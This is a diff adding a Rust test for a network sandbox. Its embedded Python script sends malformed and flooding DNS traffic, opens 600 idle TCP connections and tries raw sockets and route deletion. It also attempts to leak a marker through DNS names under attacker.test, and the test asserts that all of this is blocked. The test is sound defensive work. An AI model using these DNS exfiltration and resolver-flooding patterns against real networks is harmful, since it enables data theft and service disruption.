@@ -2025,3 +2025,116 @@ sleep 60"
         assert_eq!(lab.requests_with(m).len(), at_kill, "{:?}: requests arrived after the kill", env.who);
     });
 }
+
+const PY_HOSTILE: &str = r#"
+import struct
+
+def name_bytes(name):
+    return b''.join(bytes([len(l)]) + l for l in name.split(b'.')) + b'\0'
+
+def query(name, qtype=1, flags=0x0100, count=1):
+    return struct.pack('!HHHHHH', 0x1234, flags, count, 0, 0, 0) + name_bytes(name) + struct.pack('!HH', qtype, 1)
+
+def udp(name, payload, to='192.0.2.53'):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(1)
+    s.sendto(payload, (to, 53))
+    try:
+        reply = s.recv(65535)
+        out(name, 'ANSWER', 'rcode=%d' % (reply[3] & 15) if len(reply) > 3 else 'short')
+    except socket.timeout:
+        out(name, 'SILENT')
+
+secret = ('h%s.attacker.test' % M).encode()
+header = struct.pack('!HHHHHH', 0x4242, 0x0100, 1, 0, 0, 0)
+udp('empty', b'')
+udp('garbage', bytes(range(256)) * 2)
+udp('response', query(secret, flags=0x8180))
+udp('pointer-loop', header + b'\xc0\x0c' + struct.pack('!HH', 1, 1))
+udp('no-question', struct.pack('!HHHHHH', 1, 0x0100, 0, 0, 0, 0))
+udp('many-questions', query(b'p' + secret, count=65535))
+udp('binary-label', query(b'a\x00b.' + b'n' + secret))
+udp('txt', query(b't' + secret, qtype=16), to='1.1.1.1')
+udp('long-name', query(b'.'.join([b'x' * 63] * 3) + b'.l' + secret))
+
+# DNS over TCP: a length that is never sent whole, then a question one byte at a time.
+s = socket.create_connection(('192.0.2.53', 53), timeout=5)
+s.sendall(b'\xff\xff' + b'z' * 100)
+s.close()
+s = socket.create_connection(('192.0.2.53', 53), timeout=5)
+msg = query(b'b' + secret)
+for b in struct.pack('!H', len(msg)) + msg:
+    s.send(bytes([b]))
+reply = recv_until(s, lambda d: len(d) >= 2 and len(d) >= 2 + struct.unpack('!H', d[:2])[0])
+out('tcp-bytewise', 'ANSWER', 'rcode=%d' % (reply[5] & 15) if len(reply) > 5 else 'short')
+idle = [socket.create_connection(('192.0.2.53', 53), timeout=5) for _ in range(600)]
+out('idle-tcp', len(idle))
+
+# While they idle, UDP questions and other connections are served. A half-closed connection
+# to a port a rule names: what was sent before the half-close comes back, then the end of the
+# stream.
+run('after', ['dig', '+short', '+time=3', '+tries=1', 'ok%s.wild.test' % M])
+s = socket.create_connection(('allowed.test', 22), timeout=10)
+s.sendall(b'half-%s\n' % M.encode())
+s.shutdown(socket.SHUT_WR)
+out('half-close', recv_until(s, lambda d: False).decode(errors='replace'))
+
+# Once they are closed, DNS over TCP answers again.
+for c in idle:
+    c.close()
+run('after-tcp', ['dig', '+short', '+tcp', '+time=3', '+tries=1', 'okt%s.wild.test' % M])
+
+# The way out cannot be changed: no raw or packet sockets, no route changes.
+for name, args in (('raw', (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)),
+                   ('packet', (socket.AF_PACKET, socket.SOCK_RAW, 0x0300))):
+    try:
+        socket.socket(*args)
+        out(name, 'OPENED')
+    except PermissionError as e:
+        out(name, 'REFUSED', e)
+run('route-del', ['ip', 'route', 'del', 'local', '0.0.0.0/0', 'table', 'local'])
+run('route-add', ['ip', 'route', 'add', '192.0.2.0/24', 'dev', 'lo'])
+run('routes', ['ip', 'route', 'show', 'table', 'local'])
+"#;
+
+/// Hostile bytes to the sandbox's resolver (an empty datagram, garbage, a response, a
+/// compression loop, no question, 65535 questions, a binary label, a name of 200 bytes, a TCP
+/// length never sent whole, a question one byte at a time, 600 idle TCP connections) get a
+/// refusal or silence, never reach the lab's resolver, and leave the resolver answering
+/// (UDP while the idle connections are open, TCP once they are closed). A half-closed
+/// connection to a named port delivers its data and then the end of the stream, while 600
+/// DNS connections idle.
+/// Raw and packet sockets and route changes are refused, and the local default route is
+/// still in place. Control: the allowed names reach the lab's resolver.
+#[test]
+fn hostile_dns_and_a_fixed_way_out() {
+    each_identity("hostile", |lab, env, m| {
+        let args = ["--allow-host", "allowed.test:22", "--allow-host", "*.wild.test"];
+        let code = format!("{PY_DIRECT}\n{PY_HOSTILE}");
+        let run = Run::sandboxed(lab, env, &args, &code, m);
+        assert_code(&run.out, 0);
+        for name in ["empty", "garbage", "response", "pointer-loop", "many-questions"] {
+            run.expect(name, &["SILENT"]);
+        }
+        run.expect("no-question", &["ANSWER", "rcode=1"]);
+        for name in ["binary-label", "txt", "long-name", "tcp-bytewise"] {
+            run.expect(name, &["ANSWER", "rcode=3"]);
+        }
+        let secret = format!("{m}.attacker.test");
+        run.check(lab.queries_with(&secret).is_empty(), &format!("the lab saw {:?}", lab.queries_with(&secret)));
+        run.event("net.deny", &[("proto", "dns"), ("host", &format!("bh{secret}")), ("reason", "not-allowed")]);
+        run.expect("idle-tcp", &["600"]);
+        run.expect("after", &["rc=0", "198.18."]);
+        run.expect("after-tcp", &["rc=0", "198.18."]);
+        let allowed = format!("okt{m}.wild.test");
+        run.check(lab.queries_with(&allowed).iter().any(|q| q.name == allowed), "control: no lookup reached the lab");
+
+        run.expect("half-close", &["SSH-2.0-ringfence-lab", &format!("half-{m}")]);
+        run.check(!lab.lines_with(&format!("half-{m}")).is_empty(), "the line server saw nothing");
+        run.expect("raw", &["REFUSED"]);
+        run.expect("packet", &["REFUSED"]);
+        run.expect_not("route-del", &["rc=0"]);
+        run.expect_not("route-add", &["rc=0"]);
+        run.expect("routes", &["rc=0", "local default dev lo"]);
+    });
+}
